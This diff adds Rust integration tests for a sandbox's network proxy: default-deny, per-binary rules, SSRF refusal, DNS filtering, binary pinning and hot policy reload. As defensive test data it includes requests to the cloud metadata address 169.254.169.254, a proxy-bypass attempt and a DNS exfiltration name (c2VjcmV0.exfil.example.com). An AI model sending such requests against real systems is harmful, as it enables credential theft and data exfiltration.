@@ -1,0 +1,540 @@
+//! The network of a sandbox end to end: real clients inside (curl, python3, git), the
+//! real proxy in the supervisor, real upstream servers of `../shared/testenv` in their
+//! own network namespace. Deny by default; decisions by host, port and binary; SSRF
+//! guard; forward proxy; bypass refusal; transparent TCP; policy DNS; sha256 pinning;
+//! hot reload through the control socket; logs.
+
+use std::path::PathBuf;
+use std::process::{Command, Output, Stdio};
+use std::time::Duration;
+
+use openshell_tests::{Sandbox, TempDir, need_sandbox, policy_file, required, stderr, stdout};
+
+fn up(k: &str) -> String {
+    std::env::var(k).unwrap_or_else(|_| panic!("{k} unset (eval \"$(upstream.sh env)\")"))
+}
+
+/// Are the upstream test hosts there? Skip (or fail when required) otherwise.
+fn upstream_ok() -> bool {
+    if std::env::var("OS_UPSTREAM_IP").is_ok() {
+        return true;
+    }
+    if required("upstream") {
+        panic!("OS_UPSTREAM_IP unset but OPENSHELL_TEST_REQUIRE asks for the upstream hosts");
+    }
+    eprintln!(
+        "skipped: no upstream test hosts (sudo ../shared/testenv/upstream.sh start; eval \"$(upstream.sh env)\")"
+    );
+    false
+}
+
+macro_rules! need_upstream {
+    () => {
+        need_sandbox!();
+        if !upstream_ok() {
+            return;
+        }
+    };
+}
+
+/// A sandbox with the test CA mounted at /sandbox/ca.crt and logs in a known place.
+struct Net {
+    sb: Sandbox,
+    logs: TempDir,
+    dir: TempDir,
+}
+
+impl Net {
+    fn new() -> Self {
+        Self {
+            sb: Sandbox::new(),
+            logs: TempDir::new("netlogs"),
+            dir: TempDir::new("netpol"),
+        }
+    }
+
+    fn run(&self, policy: Option<&str>, script: &str) -> Output {
+        self.run_opts(policy, &[], script)
+    }
+
+    fn run_opts(&self, policy: Option<&str>, extra: &[&str], script: &str) -> Output {
+        let ca = format!("{}:/sandbox/ca.crt:ro", up("OS_UPSTREAM_CA"));
+        let logs = self.logs.path().to_string_lossy().into_owned();
+        let mut args: Vec<String> = vec!["--mount".into(), ca, "--log-dir".into(), logs];
+        if let Some(p) = policy {
+            let f = policy_file(self.dir.path(), "policy.yaml", p);
+            args.push("--policy".into());
+            args.push(f.to_string_lossy().into_owned());
+        }
+        args.extend(extra.iter().map(|s| s.to_string()));
+        let a: Vec<&str> = args.iter().map(String::as_str).collect();
+        self.sb.run(&a, &["sh", "-c", script])
+    }
+
+    fn log(&self) -> String {
+        std::fs::read_to_string(self.logs.path().join("openshell.log")).unwrap_or_default()
+    }
+
+    fn ocsf(&self) -> Vec<serde_json::Value> {
+        std::fs::read_to_string(self.logs.path().join("openshell.ocsf.jsonl"))
+            .unwrap_or_default()
+            .lines()
+            .filter_map(|l| serde_json::from_str(l).ok())
+            .collect()
+    }
+}
+
+const CURL: &str = "curl -sS -m 10 --cacert /sandbox/ca.crt";
+
+fn policy(endpoints: &str, binaries: &str) -> String {
+    format!(
+        "version: 1\nnetwork_policies:\n  upstream:\n    name: upstream\n    endpoints:\n{endpoints}    binaries:\n{binaries}"
+    )
+}
+
+fn ep(host: &str, port: u16) -> String {
+    format!("      - {{ host: \"{host}\", port: {port} }}\n")
+}
+
+fn bin(path: &str) -> String {
+    format!("      - {{ path: \"{path}\" }}\n")
+}
+
+#[test]
+fn no_policy_denies_everything_with_a_clear_answer() {
+    need_upstream!();
+    let n = Net::new();
+    let url = up("OS_UPSTREAM_HTTPS_URL");
+    // A raw CONNECT shows the deny answer exactly as a client gets it.
+    let script = format!(
+        "{CURL} {url}/x; echo curl=$?; python3 -c 'import socket; s=socket.create_connection((\"10.200.0.1\",3128)); s.sendall(b\"CONNECT {h}:443 HTTP/1.1\\r\\nHost: {h}:443\\r\\n\\r\\n\"); print(s.recv(4096).decode())'",
+        h = up("OS_UPSTREAM_HOST")
+    );
+    let out = n.run(None, &script);
+    let text = stdout(&out);
+    assert!(text.contains("curl=56"), "{text}{}", stderr(&out));
+    assert!(text.contains("HTTP/1.1 403 Forbidden"), "{text}");
+    let body = text.lines().last().unwrap_or("");
+    let v: serde_json::Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {body}"));
+    assert_eq!(v["error"], "policy_denied");
+    assert_eq!(
+        v["detail"],
+        format!(
+            "CONNECT {}:443 not permitted by policy",
+            up("OS_UPSTREAM_HOST")
+        )
+    );
+    assert_eq!(v["reason"], "no policy allows this destination");
+    let log = n.log();
+    assert!(
+        log.contains(&format!("NET:OPEN DENIED /usr/bin/curl(")),
+        "{log}"
+    );
+    assert!(
+        log.contains(&format!(
+            "-> {}:443 [reason:no policy allows this destination]",
+            up("OS_UPSTREAM_HOST")
+        )),
+        "{log}"
+    );
+    // The same as OCSF.
+    let denied: Vec<_> = n
+        .ocsf()
+        .into_iter()
+        .filter(|e| e["action"] == "Denied")
+        .collect();
+    assert!(!denied.is_empty());
+    assert_eq!(denied[0]["class_uid"], 4001);
+    assert_eq!(denied[0]["dst_endpoint"]["port"], 443);
+    assert!(
+        denied
+            .iter()
+            .any(|e| e["actor"]["process"]["name"] == "curl"),
+        "{denied:?}"
+    );
+}
+
+#[test]
+fn host_port_and_binary_decide() {
+    need_upstream!();
+    let n = Net::new();
+    let host = up("OS_UPSTREAM_HOST");
+    let url = up("OS_UPSTREAM_HTTPS_URL");
+    let p = policy(&ep(&host, 443), &bin("/usr/bin/curl"));
+    let script = format!(
+        "{CURL} {url}/allowed | grep ^method=; \
+         {CURL} https://{host}:8443/wrong-port; echo port=$?; \
+         python3 -c 'import urllib.request,ssl; urllib.request.urlopen(\"{url}/py\", context=ssl.create_default_context(cafile=\"/sandbox/ca.crt\"))' 2>&1 | tail -1; \
+         {CURL} https://{other}/other; echo other=$?",
+        other = up("OS_UPSTREAM_OTHER_HOST")
+    );
+    let out = n.run(Some(&p), &script);
+    let text = stdout(&out);
+    assert!(text.contains("method=GET"), "{text}{}", stderr(&out));
+    assert!(text.contains("port=56"), "{text}");
+    assert!(
+        text.contains("Tunnel connection failed: 403") || text.contains("403"),
+        "python3 was allowed: {text}"
+    );
+    assert!(text.contains("other=56"), "{text}");
+    let log = n.log();
+    assert!(
+        log.contains(&format!("NET:OPEN ALLOWED /usr/bin/curl("))
+            && log.contains("[policy:upstream]"),
+        "{log}"
+    );
+    assert!(
+        log.contains("[reason:destination allowed for other binaries only]"),
+        "{log}"
+    );
+    // `/**` allows any binary.
+    let p = policy(&ep(&host, 443), &bin("/**"));
+    let script = format!(
+        "python3 -c 'import urllib.request,ssl; print(urllib.request.urlopen(\"{url}/py\", context=ssl.create_default_context(cafile=\"/sandbox/ca.crt\")).read().decode().splitlines()[0])'"
+    );
+    let out = n.run(Some(&p), &script);
+    assert_eq!(stdout(&out), "method=GET\n", "{}", stderr(&out));
+}
+
+#[test]
+fn wildcards_private_addresses_and_allowed_ips() {
+    need_upstream!();
+    let n = Net::new();
+    let wild = "*.wild.test.openshell";
+    let script = format!(
+        "for h in a.wild.test.openshell b.c.wild.test.openshell wild.test.openshell; do {CURL} -o /dev/null -w \"$h=%{{http_code}}\\n\" https://$h/ 2>/dev/null; done"
+    );
+    // A wildcard resolving to a private address needs allowed_ips.
+    let out = n.run(
+        Some(&policy(&ep(wild, 443), &bin("/usr/bin/curl"))),
+        &script,
+    );
+    assert_eq!(
+        stdout(&out),
+        "a.wild.test.openshell=000\nb.c.wild.test.openshell=000\nwild.test.openshell=000\n"
+    );
+    assert!(
+        n.log()
+            .contains("is a private address and *.wild.test.openshell is a wildcard"),
+        "{}",
+        n.log()
+    );
+    let with_ips = format!(
+        "      - {{ host: \"{wild}\", port: 443, allowed_ips: [\"{}\"] }}\n",
+        up("OS_UPSTREAM_SUBNET")
+    );
+    let out = n.run(Some(&policy(&with_ips, &bin("/usr/bin/curl"))), &script);
+    // `*` is one label: a.wild yes; b.c.wild and the apex no.
+    assert_eq!(
+        stdout(&out),
+        "a.wild.test.openshell=200\nb.c.wild.test.openshell=000\nwild.test.openshell=000\n",
+        "{}",
+        stderr(&out)
+    );
+    // allowed_ips that do not contain the address: denied.
+    let wrong =
+        format!("      - {{ host: \"{wild}\", port: 443, allowed_ips: [\"10.99.0.0/24\"] }}\n");
+    let out = n.run(Some(&policy(&wrong, &bin("/usr/bin/curl"))), &script);
+    assert!(
+        stdout(&out).starts_with("a.wild.test.openshell=000"),
+        "{}",
+        stdout(&out)
+    );
+}
+
+#[test]
+fn ssrf_targets_are_refused_whatever_the_policy() {
+    need_upstream!();
+    let n = Net::new();
+    let eps = [
+        ep("127.0.0.1", 80),
+        ep("169.254.169.254", 80),
+        ep("localhost", 80),
+        ep("0.0.0.0", 80),
+    ]
+    .concat();
+    let script = format!(
+        "for u in http://127.0.0.1/ http://169.254.169.254/latest/meta-data http://localhost/ http://0.0.0.0/; do {CURL} --noproxy '' -o /dev/null -w \"%{{http_code}}\\n\" $u; done"
+    );
+    let out = n.run(Some(&policy(&eps, &bin("/**"))), &script);
+    assert_eq!(stdout(&out), "403\n403\n403\n403\n", "{}", stderr(&out));
+    let log = n.log();
+    assert!(log.contains("loopback address: never allowed"), "{log}");
+    assert!(log.contains("link-local address (cloud metadata)"), "{log}");
+}
+
+#[test]
+fn forward_proxy_and_malformed_requests() {
+    need_upstream!();
+    let n = Net::new();
+    let host = up("OS_UPSTREAM_HOST");
+    let p = policy(&[ep(&host, 80), ep(&host, 81)].concat(), &bin("/**"));
+    let raw = |req: &str| {
+        format!(
+            "python3 -c 'import socket,sys; s=socket.create_connection((\"10.200.0.1\",3128)); s.sendall(sys.argv[1].encode().decode(\"unicode_escape\").encode()); print(s.recv(65536).decode(errors=\"replace\").splitlines()[0])' '{req}'"
+        )
+    };
+    let script = [
+        format!("curl -sS -m 10 http://{host}/fwd?q=1 | grep -E '^(method|request_line)='"),
+        raw(&format!(
+            "GET https://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"
+        )),
+        raw("GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"),
+        raw(&format!(
+            "CONNECT {host}:443 HTTP/1.1\\r\\nX: {}\\r\\n\\r\\n",
+            "a".repeat(9000)
+        )),
+        raw("NOT HTTP\\r\\n\\r\\n"),
+        format!("curl -sS -m 10 -o /dev/null -w '%{{http_code}}\\n' http://{host}:81/"),
+    ]
+    .join("; ");
+    let out = n.run(Some(&p), &script);
+    let lines: Vec<String> = stdout(&out).lines().map(str::to_string).collect();
+    assert_eq!(lines[0], "method=GET", "{lines:?} {}", stderr(&out));
+    // Sent to the upstream in origin form.
+    assert_eq!(lines[1], "request_line=GET /fwd?q=1 HTTP/1.1");
+    assert_eq!(lines[2], "HTTP/1.1 400 Bad Request", "https absolute URI");
+    assert_eq!(
+        lines[3], "HTTP/1.1 400 Bad Request",
+        "origin-form to the proxy"
+    );
+    assert_eq!(lines[4], "HTTP/1.1 431 Request Header Fields Too Large");
+    assert_eq!(lines[5], "HTTP/1.1 400 Bad Request");
+    // Allowed but refused upstream: 502 upstream_unreachable.
+    assert_eq!(lines[6], "502");
+}
+
+#[test]
+fn bypass_is_refused_and_logged_transparent_tcp_is_relayed() {
+    need_upstream!();
+    let n = Net::new();
+    let tcp_host = up("OS_UPSTREAM_TCP").split(':').next().unwrap().to_string();
+    let tcp = format!("      - {{ host: \"{tcp_host}\", port: 7777, protocol: tcp }}\n");
+    let p = policy(&tcp, &bin("/usr/bin/python3*"));
+    let script = format!(
+        "curl -sS -m 5 --noproxy '*' http://{ip}/ ; echo curl=$?; \
+         python3 -c 'import socket; s=socket.create_connection((\"{tcp_host}\",7777), timeout=5); s.sendall(b\"ping\\n\"); print(\"echo:\", s.recv(100).decode().strip())'",
+        ip = up("OS_UPSTREAM_OTHER_IP"),
+    );
+    let out = n.run(Some(&p), &script);
+    let text = stdout(&out);
+    assert!(text.contains("curl=56"), "{text}{}", stderr(&out));
+    assert!(text.contains("echo: ping"), "{text}{}", stderr(&out));
+    let log = n.log();
+    assert!(
+        log.contains(&format!("NET:BYPASS DENIED /usr/bin/curl("))
+            && log.contains(&format!("-> {}:80", up("OS_UPSTREAM_OTHER_IP"))),
+        "{log}"
+    );
+    assert!(
+        log.contains(&format!("NET:OPEN ALLOWED /usr/bin/python3"))
+            && log.contains(&format!("-> {tcp_host}:7777 [policy:upstream]")),
+        "{log}"
+    );
+}
+
+#[test]
+fn dns_answers_only_allowed_names() {
+    need_upstream!();
+    let n = Net::new();
+    let host = up("OS_UPSTREAM_HOST");
+    let p = policy(&ep(&host, 443), &bin("/usr/bin/curl"));
+    // A data-carrying name (exfiltration attempt) gets NXDOMAIN and is never resolved.
+    let script = format!(
+        "getent hosts {host} | cut -d' ' -f1; getent hosts c2VjcmV0.exfil.example.com || echo nx; getent hosts {other} || echo nx-other",
+        other = up("OS_UPSTREAM_OTHER_HOST")
+    );
+    let out = n.run(Some(&p), &script);
+    assert_eq!(
+        stdout(&out),
+        format!("{}\nnx\nnx-other\n", up("OS_UPSTREAM_IP")),
+        "{}",
+        stderr(&out)
+    );
+    assert!(
+        n.log()
+            .contains("NET:DNS DENIED ?(0) -> c2vjcmv0.exfil.example.com:53"),
+        "{}",
+        n.log()
+    );
+}
+
+#[test]
+fn a_binary_changed_after_first_use_is_denied() {
+    need_upstream!();
+    let n = Net::new();
+    let host = up("OS_UPSTREAM_HOST");
+    let p = policy(&ep(&host, 80), &bin("/sandbox/tool"));
+    let script = format!(
+        "cp /usr/bin/curl /sandbox/tool; /sandbox/tool -sS -m 10 -o /dev/null -w 'first=%{{http_code}}\\n' http://{host}/; \
+         cat /usr/bin/curl > /sandbox/tool; echo >> /sandbox/tool; \
+         /sandbox/tool -sS -m 10 -o /dev/null -w 'second=%{{http_code}}\\n' http://{host}/"
+    );
+    let out = n.run(Some(&p), &script);
+    assert_eq!(stdout(&out), "first=200\nsecond=403\n", "{}", stderr(&out));
+    assert!(
+        n.log()
+            .contains("/sandbox/tool changed since its first use"),
+        "{}",
+        n.log()
+    );
+}
+
+#[test]
+fn git_and_curl_through_the_proxy() {
+    need_upstream!();
+    let n = Net::new();
+    let host = up("OS_UPSTREAM_HOST");
+    let p = policy(
+        &ep(&host, 443),
+        &[bin("/usr/bin/git"), bin("/usr/lib/git-core/*")].concat(),
+    );
+    // git's https transport asks for info/refs first; nginx answers 200 text, which git
+    // rejects as "not a git repository" — proof it went through the proxy and TLS.
+    let url = up("OS_UPSTREAM_HTTPS_URL");
+    let out = n.run(
+        Some(&p),
+        &format!(
+            "GIT_SSL_CAINFO=/sandbox/ca.crt /usr/bin/git ls-remote {url}/repo.git 2>&1; echo git=$?"
+        ),
+    );
+    let text = stdout(&out);
+    assert!(
+        !text.contains("Failed to connect") && !text.contains("403"),
+        "{text}"
+    );
+    assert!(
+        n.log()
+            .contains("NET:OPEN ALLOWED /usr/lib/git-core/git-remote-http"),
+        "{}",
+        n.log()
+    );
+}
+
+fn control(sock: &PathBuf, method: &str, body: Option<&str>) -> Output {
+    let mut c = Command::new("curl");
+    c.args(["-sS", "--unix-socket"])
+        .arg(sock)
+        .args(["-X", method]);
+    if let Some(b) = body {
+        c.args(["--data-binary", b]);
+    }
+    c.arg("http://openshell/v1/policy").output().unwrap()
+}
+
+#[test]
+fn hot_reload_changes_decisions_closes_old_tunnels_and_keeps_a_good_policy() {
+    need_upstream!();
+    let n = Net::new();
+    let host = up("OS_UPSTREAM_HOST");
+    let tcp_host = up("OS_UPSTREAM_TCP").split(':').next().unwrap().to_string();
+    let v1 = policy(
+        &format!("      - {{ host: \"{tcp_host}\", port: 7777 }}\n"),
+        &bin("/**"),
+    );
+    // A long-lived tunnel opened under v1, and requests to a host v1 does not allow.
+    let script = format!(
+        "python3 - <<'EOF' &
+import socket, time
+s = socket.create_connection(('10.200.0.1', 3128))
+s.sendall(b'CONNECT {tcp_host}:7777 HTTP/1.1\\r\\n\\r\\n')
+print('tunnel:', s.recv(100).split(b'\\r\\n')[0].decode(), flush=True)
+s.sendall(b'one\\n'); print('echo:', s.recv(100).decode().strip(), flush=True)
+s.settimeout(20)
+print('after reload:', s.recv(100) == b'' and 'closed' or 'open', flush=True)
+EOF
+sleep 1; touch /sandbox/ready
+for i in $(seq 1 60); do [ -e /sandbox/reloaded ] && break; sleep 0.2; done
+curl -sS -m 10 -o /dev/null -w 'after=%{{http_code}}\\n' http://{host}/
+wait"
+    );
+    let name = format!("hot{}", std::process::id());
+    let f = policy_file(n.dir.path(), "v1.yaml", &v1);
+    let ca = format!("{}:/sandbox/ca.crt:ro", up("OS_UPSTREAM_CA"));
+    let child =
+        n.sb.cmd()
+            .args(["run", "--name", &name, "--keep", "--mount", &ca, "--policy"])
+            .arg(&f)
+            .args(["--", "sh", "-c", &script])
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+    let dir = n.sb.state.path().join("sandboxes").join(&name);
+    let sock = dir.join("control.sock");
+    let ws = dir.join("workspace");
+    for _ in 0..100 {
+        if ws.join("ready").exists() {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    // GET shows v1.
+    let out = control(&sock, "GET", None);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
+    assert_eq!(v["version"], 1, "{}", stdout(&out));
+    // A bad policy is rejected and v1 stays.
+    let out = control(
+        &sock,
+        "PUT",
+        Some(
+            "version: 1\nnetwork_policies:\n  x:\n    endpoints: [{host: \"*.com\", port: 443}]\n",
+        ),
+    );
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
+    assert_eq!(v["error"], "invalid_policy", "{}", stdout(&out));
+    assert_eq!(v["active_version"], 1);
+    // v2 allows the http host; the tunnel opened under v1 is closed.
+    let v2 = policy(
+        &[
+            ep(&host, 80),
+            format!("      - {{ host: \"{tcp_host}\", port: 7777 }}\n"),
+        ]
+        .concat(),
+        &bin("/**"),
+    );
+    let out = control(&sock, "PUT", Some(&v2));
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
+    assert_eq!(
+        (v["version"].as_u64(), v["changed"].as_bool()),
+        (Some(2), Some(true)),
+        "{}",
+        stdout(&out)
+    );
+    // The same again: no new version.
+    let out = control(&sock, "PUT", Some(&v2));
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
+    assert_eq!(
+        (v["version"].as_u64(), v["changed"].as_bool()),
+        (Some(2), Some(false))
+    );
+    std::fs::write(ws.join("reloaded"), "").unwrap();
+    let out = child.wait_with_output().unwrap();
+    let text = stdout(&out);
+    assert!(
+        text.contains("tunnel: HTTP/1.1 200 Connection Established"),
+        "{text}{}",
+        stderr(&out)
+    );
+    assert!(text.contains("echo: one"), "{text}");
+    assert!(text.contains("after reload: closed"), "{text}");
+    assert!(text.contains("after=200"), "{text}");
+    let log = std::fs::read_to_string(dir.join("logs/openshell.log")).unwrap_or_default();
+    assert!(log.contains("CONFIG:LOADED policy v2 sha256:"), "{log}");
+    assert!(log.contains("CONFIG:REJECTED policy (v1 stays)"), "{log}");
+    // The control socket is private.
+    use std::os::unix::fs::PermissionsExt;
+    let _ = std::fs::metadata(&sock).map(|m| assert_eq!(m.permissions().mode() & 0o777, 0o600));
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+#[test]
+fn network_none_has_no_proxy() {
+    need_sandbox!();
+    let sb = Sandbox::new();
+    let out = sb.run(
+        &["--network", "none"],
+        &["sh", "-c", "env | grep -ci proxy; cat /etc/resolv.conf"],
+    );
+    assert_eq!(stdout(&out), "0\n# openshell: no DNS in this sandbox\n");
+}
